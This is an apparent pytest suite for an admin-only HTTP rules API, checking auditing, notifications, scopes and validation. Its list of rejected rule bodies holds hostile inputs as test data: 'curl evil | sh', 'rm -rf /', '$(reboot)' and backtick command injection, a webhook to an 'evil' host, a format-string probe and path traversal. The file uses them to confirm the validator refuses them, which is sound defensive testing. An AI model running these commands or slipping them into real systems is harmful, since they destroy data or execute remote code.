"""Trigger rules over HTTP (F8): typed bodies, admin only, audited, notified."""

from __future__ import annotations

import json
from typing import Any

import httpx
import pytest

from app.core.context import AppContext
from app.security.principal import Scope
from tests.support.api import TokenFactory, assert_error_shape, bearer
from tests.support.rules import (
    NOTIFY_RULE,
    count,
    create_agent,
    create_rule,
    security_titles,
    snapshot,
    task_rule,
)


async def test_create_a_rule_is_audited_and_notified(
    client: httpx.AsyncClient, admin_headers: dict[str, str], ctx: AppContext
) -> None:
    rule = await create_rule(client, admin_headers, NOTIFY_RULE)
    assert rule["enabled"] is True and rule["approval"] == "not_needed"
    assert rule["on"] == "task.created" and rule["version"] == 1
    assert rule["then"][0]["title"] == "Urgent task {subject_id}"
    assert rule["created_by"].startswith("token:")
    audit = await ctx.db.fetch_all(
        "SELECT target, summary FROM audit_log WHERE action = 'rule.create'"
    )
    assert [a["target"] for a in audit] == [f"rule:{rule['id']}"]
    assert json.loads(audit[0]["summary"])["then"][0]["type"] == "notify"
    titles = await ctx.db.fetch_all("SELECT title FROM notifications WHERE category = 'rule'")
    assert [t["title"] for t in titles] == ["Rule created: urgent tasks"]
    assert await count(ctx, "SELECT count(*) FROM events WHERE type = 'rule.created'") == 1


async def test_read_scope_lists_and_reads_rules(
    client: httpx.AsyncClient, admin_headers: dict[str, str], make_token: TokenFactory
) -> None:
    rule = await create_rule(client, admin_headers, NOTIFY_RULE)
    await create_rule(client, admin_headers, {**NOTIFY_RULE, "name": "off", "enabled": False})
    reader = bearer(await make_token(Scope.READ))
    listing = await client.get("/api/rules", headers=reader)
    assert listing.status_code == 200
    assert listing.json()["total"] == 2
    enabled = await client.get("/api/rules?enabled=true", headers=reader)
    assert [r["name"] for r in enabled.json()["items"]] == ["urgent tasks"]
    detail = await client.get(f"/api/rules/{rule['id']}", headers=reader)
    assert detail.json()["when"] == NOTIFY_RULE["when"]
    assert_error_shape(await client.get("/api/rules/9999", headers=reader), 404, "not_found")
    too_many = await client.get("/api/rules?limit=201", headers=reader)
    assert_error_shape(too_many, 422, "validation_failed")
    firings = await client.get(f"/api/rules/{rule['id']}/firings", headers=reader)
    assert firings.status_code == 200 and firings.json()["items"] == []


BAD_RULES: list[tuple[str, dict[str, Any]]] = [
    ("unknown action", {**NOTIFY_RULE, "then": [{"type": "shell", "command": "id"}]}),
    ("run action", {**NOTIFY_RULE, "then": [{"type": "run", "script": "x"}]}),
    ("webhook action", {**NOTIFY_RULE, "then": [{"type": "http", "url": "http://evil"}]}),
    (
        "extra key in action",
        {
            **NOTIFY_RULE,
            "then": [{**NOTIFY_RULE["then"][0], "command": "curl evil | sh"}],
        },
    ),
    ("extra key in rule", {**NOTIFY_RULE, "script": "rm -rf /"}),
    (
        "extra key in condition",
        {**NOTIFY_RULE, "when": [{**NOTIFY_RULE["when"][0], "eval": "1"}]},
    ),
    (
        "shell in title",
        {**NOTIFY_RULE, "then": [{**NOTIFY_RULE["then"][0], "title": "x $(reboot)"}]},
    ),
    (
        "backticks in body",
        {**NOTIFY_RULE, "then": [{**NOTIFY_RULE["then"][0], "body": "`id`"}]},
    ),
    (
        "pipe to shell in body",
        {**NOTIFY_RULE, "then": [{**NOTIFY_RULE["then"][0], "body": "echo x | bash"}]},
    ),
    (
        "format string access",
        {**NOTIFY_RULE, "then": [{**NOTIFY_RULE["then"][0], "title": "{payload.__class__}"}]},
    ),
    (
        "unknown placeholder",
        {**NOTIFY_RULE, "then": [{**NOTIFY_RULE["then"][0], "title": "{actor}"}]},
    ),
    (
        "credential in body",
        {
            **NOTIFY_RULE,
            "then": [
                {
                    **NOTIFY_RULE["then"][0],
                    "body": "key sk-ant-api03-aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5bC7dE9",
                }
            ],
        },
    ),
    ("rule event as trigger", {**NOTIFY_RULE, "on": "rule.fired", "when": []}),
    ("security alert as trigger", {**NOTIFY_RULE, "on": "security.alert", "when": []}),
    ("notification as trigger", {**NOTIFY_RULE, "on": "notification.created", "when": []}),
    ("unknown event", {**NOTIFY_RULE, "on": "task.*"}),
    (
        "field not allowed",
        {**NOTIFY_RULE, "when": [{"field": "payload.secret", "op": "eq", "value": "x"}]},
    ),
    (
        "nested field",
        {**NOTIFY_RULE, "when": [{"field": "payload.a.b", "op": "eq", "value": "x"}]},
    ),
    (
        "unknown operator",
        {**NOTIFY_RULE, "when": [{"field": "payload.priority", "op": "regex", "value": ".*"}]},
    ),
    (
        "in without a list",
        {**NOTIFY_RULE, "when": [{"field": "payload.priority", "op": "in", "value": "high"}]},
    ),
    (
        "gt on a string",
        {**NOTIFY_RULE, "when": [{"field": "payload.priority", "op": "gt", "value": "a"}]},
    ),
    (
        "long value",
        {
            **NOTIFY_RULE,
            "when": [{"field": "payload.title", "op": "contains", "value": "x" * 201}],
        },
    ),
    (
        "object value",
        {**NOTIFY_RULE, "when": [{"field": "payload.title", "op": "eq", "value": {"a": 1}}]},
    ),
    (
        "too many conditions",
        {**NOTIFY_RULE, "when": [NOTIFY_RULE["when"][0]] * 11},
    ),
    ("too many actions", {**NOTIFY_RULE, "then": [NOTIFY_RULE["then"][0]] * 6}),
    ("no actions", {**NOTIFY_RULE, "then": []}),
    (
        "set_task_status off a task event",
        {
            **NOTIFY_RULE,
            "on": "agent.created",
            "when": [],
            "then": [{"type": "set_task_status", "status": "queued"}],
        },
    ),
    (
        "status a rule may not set",
        {**NOTIFY_RULE, "then": [{"type": "set_task_status", "status": "succeeded"}]},
    ),
    ("rate above the ceiling", {**NOTIFY_RULE, "max_firings_per_hour": 101}),
    ("rate of zero", {**NOTIFY_RULE, "max_firings_per_hour": 0}),
    ("bad name", {**NOTIFY_RULE, "name": "../../etc"}),
]


@pytest.mark.parametrize(("label", "body"), BAD_RULES, ids=[label for label, _ in BAD_RULES])
async def test_bad_rules_are_refused_and_nothing_is_stored(
    client: httpx.AsyncClient,
    admin_headers: dict[str, str],
    ctx: AppContext,
    label: str,
    body: dict[str, Any],
) -> None:
    before = snapshot(ctx)
    response = await client.post("/api/rules", json=body, headers=admin_headers)
    assert_error_shape(response, 422, "validation_failed")
    assert snapshot(ctx) == before, label
    assert "rm -rf" not in response.text and "sk-ant" not in response.text


async def test_a_rule_for_an_unknown_agent_is_refused(
    client: httpx.AsyncClient, admin_headers: dict[str, str], ctx: AppContext
) -> None:
    before = snapshot(ctx)
    response = await client.post("/api/rules", json=task_rule(4242), headers=admin_headers)
    assert_error_shape(response, 422, "unknown_agent")
    assert response.json()["error"]["details"][0]["loc"] == ["body", "then", "0", "agent_id"]
    assert snapshot(ctx) == before


async def test_malformed_bodies_get_the_error_shape(
    client: httpx.AsyncClient, admin_headers: dict[str, str], ctx: AppContext
) -> None:
    before = snapshot(ctx)
    for content in (b"{", b"null", b"[]", b'"rule"', b'{"name": 1e999}'):
        response = await client.post(
            "/api/rules",
            content=content,
            headers={**admin_headers, "Content-Type": "application/json"},
        )
        assert 400 <= response.status_code < 500
        assert_error_shape(response, response.status_code)
    assert snapshot(ctx) == before


async def test_patch_revalidates_and_uses_the_version(
    client: httpx.AsyncClient, admin_headers: dict[str, str], ctx: AppContext
) -> None:
    rule = await create_rule(client, admin_headers, NOTIFY_RULE)
    url = f"/api/rules/{rule['id']}"
    before = snapshot(ctx)
    # A change valid alone but not with the stored event type: the whole rule is checked.
    wrong_field = await client.patch(
        url,
        json={
            "version": 1,
            "on": "agent.created",
        },
        headers=admin_headers,
    )
    assert_error_shape(wrong_field, 422, "validation_failed")
    assert "payload.priority" in json.dumps(wrong_field.json()["error"]["details"])
    extra = await client.patch(url, json={"version": 1, "owner": "me"}, headers=admin_headers)
    assert_error_shape(extra, 422, "validation_failed")
    assert snapshot(ctx) == before

    changed = await client.patch(
        url, json={"version": 1, "name": "renamed", "enabled": False}, headers=admin_headers
    )
    assert changed.status_code == 200, changed.text
    assert changed.json()["name"] == "renamed" and changed.json()["enabled"] is False
    assert changed.json()["version"] == 2
    stale = await client.patch(url, json={"version": 1, "name": "again"}, headers=admin_headers)
    assert_error_shape(stale, 409, "conflict")
    audit = await ctx.db.fetch_all("SELECT summary FROM audit_log WHERE action = 'rule.update'")
    summary = json.loads(audit[0]["summary"])
    assert summary["before"]["name"] == "urgent tasks" and summary["after"]["name"] == "renamed"
    assert summary["before"]["enabled"] is True and summary["after"]["enabled"] is False
    titles = await ctx.db.fetch_all(
        "SELECT title FROM notifications WHERE category = 'rule' ORDER BY id"
    )
    assert titles[-1]["title"] == "Rule disabled: renamed"


async def test_delete_is_soft_and_audited(
    client: httpx.AsyncClient, admin_headers: dict[str, str], ctx: AppContext
) -> None:
    rule = await create_rule(client, admin_headers, NOTIFY_RULE)
    url = f"/api/rules/{rule['id']}"
    assert (await client.delete(url, headers=admin_headers)).status_code == 204
    assert_error_shape(await client.get(url, headers=admin_headers), 404, "not_found")
    assert (await client.get("/api/rules", headers=admin_headers)).json()["total"] == 0
    row = await ctx.db.fetch_one(
        "SELECT deleted_at, enabled FROM rules WHERE id = ?", (rule["id"],)
    )
    assert row is not None and row["deleted_at"] is not None and row["enabled"] == 0
    assert await count(ctx, "SELECT count(*) FROM audit_log WHERE action = 'rule.delete'") == 1
    assert_error_shape(await client.delete(url, headers=admin_headers), 404, "not_found")


@pytest.mark.parametrize("scope", [Scope.READ, Scope.OPERATE])
async def test_only_admins_create_change_approve_or_dry_run_rules(
    client: httpx.AsyncClient,
    admin_headers: dict[str, str],
    make_token: TokenFactory,
    ctx: AppContext,
    scope: Scope,
) -> None:
    rule = await create_rule(client, admin_headers, {**NOTIFY_RULE, "enabled": False})
    url = f"/api/rules/{rule['id']}"
    headers = bearer(await make_token(scope))
    before = snapshot(ctx)
    attempts = [
        ("POST", "/api/rules", NOTIFY_RULE),
        ("PATCH", url, {"version": 1, "enabled": True}),
        ("DELETE", url, None),
        ("POST", f"{url}/approve", {"version": 1}),
        ("POST", f"{url}/dry-run", {"event": {"type": "task.created", "payload": {}}}),
    ]
    for method, path, body in attempts:
        response = await client.request(method, path, json=body, headers=headers)
        assert_error_shape(response, 403, "insufficient_scope")
    after = snapshot(ctx)
    assert after["rules"] == before["rules"]
    refused = await ctx.db.fetch_all(
        "SELECT action FROM audit_log WHERE outcome = 'refused' ORDER BY id"
    )
    assert [r["action"] for r in refused] == [
        "POST /api/rules",
        "PATCH /api/rules/{rule_id}",
        "DELETE /api/rules/{rule_id}",
        "POST /api/rules/{rule_id}/approve",
        "POST /api/rules/{rule_id}/dry-run",
    ]
    titles = await security_titles(ctx)
    assert "Refused: POST /api/rules" in titles
    assert "Refused: POST /api/rules/{rule_id}/approve" in titles


async def test_a_rule_may_notify_in_the_security_category(
    client: httpx.AsyncClient, admin_headers: dict[str, str]
) -> None:
    body = {**NOTIFY_RULE, "then": [{**NOTIFY_RULE["then"][0], "category": "security"}]}
    rule = await create_rule(client, admin_headers, body)
    assert rule["then"][0]["category"] == "security"


async def test_create_task_rule_for_a_plain_agent_needs_no_approval(
    client: httpx.AsyncClient, admin_headers: dict[str, str], ctx: AppContext
) -> None:
    agent = await create_agent(client, admin_headers)
    rule = await create_rule(client, admin_headers, task_rule(agent["id"]))
    assert rule["enabled"] is True and rule["approval"] == "not_needed"
    assert not any("shell" in t for t in await security_titles(ctx))
